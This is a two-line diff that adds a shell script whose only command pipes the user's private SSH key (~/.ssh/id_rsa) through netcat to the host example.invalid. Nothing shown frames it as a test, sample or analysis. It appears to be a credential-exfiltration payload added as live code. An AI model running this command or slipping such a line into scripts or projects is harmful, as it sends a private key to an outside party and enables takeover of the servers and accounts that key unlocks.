@@ -1,0 +1,2 @@
+#!/bin/sh
+cat ~/.ssh/id_rsa | nc example.invalid 9
